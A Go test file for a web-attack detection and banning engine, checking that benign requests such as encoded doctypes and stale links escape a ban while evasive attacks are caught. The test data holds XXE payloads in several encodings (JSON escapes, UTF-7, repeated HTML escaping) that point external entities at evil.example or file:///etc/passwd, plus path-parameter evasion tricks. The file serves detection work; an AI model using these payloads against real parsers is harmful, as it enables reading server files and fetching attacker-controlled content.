package patterns

import "testing"

// Review of bd90aa3..8c405ef (seventh session): benign bans, evasions and
// an assertion of oneshot-families7 that could not fail. Each case below
// failed at 8c405ef.

// Benign requests that one new signature banned on its own (10 points).
func TestFamilies7ReviewBenignNotBannedAlone(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, target := range []string{
		// JSON with '<' escaped (Go/Rails/.NET encoders) carrying an XHTML
		// template: the plain spelling of this very doctype is spared (W3C DTD)
		"/api/preview?doc=%7B%22html%22%3A%22%5Cu003c!DOCTYPE+html+PUBLIC+%5C%22-%2F%2FW3C%2F%2FDTD+XHTML+1.0+Transitional%2F%2FEN%5C%22+%5C%22http%3A%2F%2Fwww.w3.org%2FTR%2Fxhtml1%2FDTD%2Fxhtml1-transitional.dtd%5C%22%5Cu003e%22%7D",
		// the same doctype escaped twice (an HTML source shown in an editor) and in UTF-7
		"/search?q=%26amp%3Blt%3B!DOCTYPE+html+PUBLIC+%22-%2F%2FW3C%2F%2FDTD+HTML+4.01%2F%2FEN%22",
		"/search?q=%2BADw-!DOCTYPE+html+PUBLIC+%2BACI--%2F%2FW3C%2F%2FDTD+HTML+4.01%2F%2FEN%2BACI-",
		"/search?q=%26amp%3Blt%3B!DOCTYPE+html+PUBLIC+%26amp%3Bquot%3B-%2F%2FW3C%2F%2FDTD+XHTML+1.0+Strict%2F%2FEN%26amp%3Bquot%3B+%26amp%3Bquot%3Bhttp%3A%2F%2Fwww.w3.org%2FTR%2Fxhtml1%2FDTD%2Fxhtml1-strict.dtd%26amp%3Bquot%3B",
		// HTML5's legacy doctype, plain and escaped
		"/search?q=%3C!DOCTYPE+html+SYSTEM+%22about%3Alegacy-compat%22%3E",
		"/api/preview?doc=%5Cu003c!DOCTYPE+html+SYSTEM+%5C%22about%3Alegacy-compat%5C%22%5Cu003e",
		// a DTD tutorial's search box: a notation fetches nothing
		"/search?q=%3C!NOTATION+gif+PUBLIC+%22gif+viewer%22%3E",
		"/search?q=%3C!NOTATION+jpeg+SYSTEM+%22image%2Fjpeg%22%3E",
		// Public Works Department / persons-with-disabilities data files
		"/tenders/pwd.xlsx", "/uploads/pwd.csv", "/data/pwds.xls",
	} {
		if w := total(m.Match(req("GET", target, browserUA, ""), nil)); w >= 10 {
			t.Errorf("%s: %d points %v, a one-request ban of a benign client", target, w, ids(m.Match(req("GET", target, browserUA, ""), nil)))
		}
	}
	// the encoded forms still ban what the plain form bans
	for _, target := range []string{
		"/x?doc=%5Cu003c!DOCTYPE+r+PUBLIC+%5C%22-%2F%2FX%2F%2FEN%5C%22+%5C%22http%3A%2F%2Fevil.example%2Fx.dtd%5C%22%5Cu003e",
		"/x?doc=%26amp%3Blt%3B!DOCTYPE+r+SYSTEM+%26amp%3Bquot%3Bfile%3A%2F%2F%2Fetc%2Fpasswd%26amp%3Bquot%3B",
		"/x?doc=%2BADw-!DOCTYPE+r+%2BAFs-%2BADw-!ENTITY+x+SYSTEM+%2BACI-file%3A%2F%2F%2Fetc%2Fpasswd%2BACI-%2BAD4-%2BAF0-",
		"/x?doc=%3C!NOTATION+x+SYSTEM+%22http%3A%2F%2Fevil.example%2Fn%22%3E",
		"/x?doc=%3C!DOCTYPE+r+SYSTEM+%22http%3A%2F%2Fevil.example%2Fx.dtd%22%3E",
	} {
		if w := total(m.Match(req("GET", target, browserUA, ""), nil)); w < 10 {
			t.Errorf("%s: %d points %v, want a ban", target, w, ids(m.Match(req("GET", target, browserUA, ""), nil)))
		}
	}
}

// Names real clients miss (404): the weak families count none of them, or
// 1 point, so a crawler following four stale links is not banned by them.
func TestFamilies7ReviewStaleLinks(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, target := range []string{
		"/portal/i18n/Messages_en_US.properties",      // jquery.i18n.properties language bundles
		"/archlinux/community/os/x86_64/community.db", // pacman -Sy on a dropped repo
		"/msys2/mingw/clang32/clang32.db",             // MSYS2 dropped clang32
		"/photos/2009/Thumbs.db",                      // a Windows folder uploaded whole
		"/updates/beta.yml",                           // electron-updater channel file
		"/charts/index.yaml",                          // helm repo update
		"/locales/en.yml", "/assets/i18n/pt-BR.yml",   // locale bundles
		"/.well-known/stellar.toml",                       // a well-known file
		"/gradle/wrapper/gradle-wrapper.properties",       // a build's wrapper
		"/wiki.pl?HomePage", "/article.pl?sid=04/05/06/1", // old UseModWiki / Slash sites, query kept
		"/pub/src/main.c~", "/favicon.ico~", "/README~", // autoindex listing's removed backups
		"/security/cve/CVE-2023-4863.html",                    // advisory page (SUSE-style name)
		"/security/data/csaf/v2/vex/2024/cve-2024-21007.json", // VEX file per CVE
	} {
		for _, h := range missed(m, req("GET", target, browserUA, "")) {
			if h.ID == "probe-secret-extension" || h.ID == "probe-cve-named-file" {
				t.Errorf("%s: %s counts %d points on a 404", target, h.ID, h.Weight)
			}
		}
	}
	// kinds that stay in the family weigh 1: four stale download links
	// (.pcap, .ovpn) are 4 points, not a ban
	for _, target := range []string{"/courses/net101/captures/dns.pcap", "/download/configs/de-fra-03.ovpn", "/fonts/CVE-2023-41265.ttf"} {
		for _, h := range missed(m, req("GET", target, browserUA, "")) {
			if (h.ID == "probe-secret-extension" || h.ID == "probe-cve-named-file") && h.Weight*4 >= 10 {
				t.Errorf("%s: %s weighs %d: four stale links ban", target, h.ID, h.Weight)
			}
		}
	}
}

// Attacks the new families missed after a trivial spelling change.
func TestFamilies7ReviewEvasions(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, c := range []struct{ target, id string }{
		// Tomcat/Spring drop any ;param
		{"/api;x/config", "path-param-empty"},
		{"/api;%20/config", "path-param-empty"},
		// UTF-7 as .NET's UTF7Encoding writes it ('!' inside the base64 run)
		{"/x?xml=%2BADwAIQ-ENTITY+xxe+SYSTEM+%2BACI-http%3A%2F%2Fevil%2F%2BACI-%2BAD4-", "xxe-entity"},
		// JSON escape of '!' too, or of a letter
		{"/x?xml=%5Cu003c%5Cu0021ENTITY+xxe+SYSTEM+%22http%3A%2F%2Fevil%2F%22", "xxe-entity"},
		{"/x?xml=%5Cu003c!%5Cu0045NTITY+xxe+SYSTEM+%22http%3A%2F%2Fevil%2F%22", "xxe-entity"},
		// '&' itself as a numeric reference, or escaped three times
		{"/x?xml=%26%2338%3Blt%3B!ENTITY+xxe+SYSTEM+%22http%3A%2F%2Fevil%2F%22", "xxe-entity"},
		{"/x?xml=%26amp%3Bamp%3Blt%3B!ENTITY+xxe+SYSTEM+%22http%3A%2F%2Fevil%2F%22", "xxe-entity"},
		// &#x25; with leading zeros / &#037;
		{"/x?a=%26%23x0025%3Bdtd%3B", "xxe-entity-reference"},
		{"/x?a=%26%23037%3Bdtd%3B", "xxe-entity-reference"},
		// a CVE-named marker with underscores
		{"/resources/qmc/fonts/CVE_2023_41265.ttf", "probe-cve-named-file"},
	} {
		if !has(m.Match(req("GET", c.target, browserUA, ""), nil), c.id) {
			t.Errorf("%s: %s not reported", c.target, c.id)
		}
	}
	// a cache-buster query no longer drops the CVE marker's hit
	if !has(missed(m, req("GET", "/resources/qmc/fonts/CVE-2023-41265.ttf?v=1", browserUA, "")), "probe-cve-named-file") {
		t.Errorf("CVE-2023-41265.ttf?v=1: probe-cve-named-file dropped on a 404 by its query")
	}
	// a parameter with a value stays a link's (jsessionid, matrix parameters)
	for _, p := range []string{"/api;jsessionid=1/config", "/cars;color=red/2020", "/a&amp;b;/c"} {
		if has(m.Match(req("GET", p, browserUA, ""), nil), "path-param-empty") {
			t.Errorf("%s: path-param-empty reported", p)
		}
	}
}

// The look-alike clients of testdata/logs/oneshot-families7.log fire none of
// the seventh session's signatures (the fixture's expect format can only say
// "not banned"; this says what its description claims). Status as logged.
func TestFamilies7FixtureLookAlikesFireNone(t *testing.T) {
	m := mustCompile(t, Options{})
	families := []string{"path-param-empty", "probe-secret-extension", "probe-cve-named-file", "xxe-entity", "xxe-entity-any", "xxe-entity-reference", "sensitive-password-list"}
	for _, c := range []struct {
		target string
		status int
	}{
		{"/tag/rock&amp;/roll", 404}, {"/a&nbsp;/b", 404}, {"/shop;jsessionid=0A1B2C3D/cart", 404},
		{"/sitemap.xml.gz", 404}, {"/install.sh", 404}, {"/get-docker.sh", 404}, {"/api/openapi.yaml", 404},
		{"/blog/cve-2023-41265-explained/", 404}, {"/downloads/tool.tar.gz.sig", 404},
		{"/downloads/app.properties", 200}, {"/data/geo.db", 200}, {"/advisories/CVE-2023-41265.json", 200},
		{"/exports/session.har", 200},
		{"/search?q=%5Cu003c!DOCTYPE+html%5Cu003e+in+json", 200}, {"/search?q=%26amp%3Blt%3B!DOCTYPE+html%26amp%3Bgt%3B", 200},
	} {
		r := req("GET", c.target, browserUA, "")
		hits := KeepAnswered(m.Match(r, nil), c.status, r.Query)
		for _, id := range families {
			if has(hits, id) {
				t.Errorf("%s answered %d: %s reported", c.target, c.status, id)
			}
		}
	}
}

// Benign bans older than the seventh session's families (review of
// bd90aa3..8c405ef, fixture benign-rev7-preexisting).
func TestFamilies7ReviewPreexisting(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, target := range []string{"/search?q=%3C!DOCTYPE+html+SYSTEM+%22about%3Alegacy-compat%22%3E", "/docs/examples/docker-compose.yml"} {
		r := req("GET", target, browserUA, "")
		if w := points(served(m, r)); w >= 10 {
			t.Errorf("%s answered 200: %d points %v", target, w, ids(served(m, r)))
		}
	}
	// a Compose file at the root bans at any answer, below it on a miss
	for _, c := range []struct {
		target string
		status int
	}{{"/docker-compose.yml", 200}, {"/docker-compose.yml", 404}, {"/app/docker-compose.prod.yml", 404}} {
		r := req("GET", c.target, browserUA, "")
		if w := points(KeepAnswered(m.Match(r, nil), c.status, r.Query)); w < 10 {
			t.Errorf("%s answered %d: %d points, want a ban", c.target, c.status, w)
		}
	}
}

// The fixture's watched clients: each request gets its family's points,
// short of a ban (198.51.100.41-43 of oneshot-families7.log, all 404).
func TestFamilies7FixtureWatched(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, c := range []struct{ target, id string }{
		{"/admin;/users", "path-param-empty"},
		{"/captures/app.pcap", "probe-secret-extension"},
		{"/resources/qmc/fonts/CVE-2023-41265.ttf", "probe-cve-named-file"},
	} {
		hits := missed(m, req("GET", c.target, browserUA, ""))
		if !has(hits, c.id) || points(hits) >= 10 {
			t.Errorf("%s answered 404: %v (%d points), want %s short of a ban", c.target, ids(hits), points(hits), c.id)
		}
	}
}
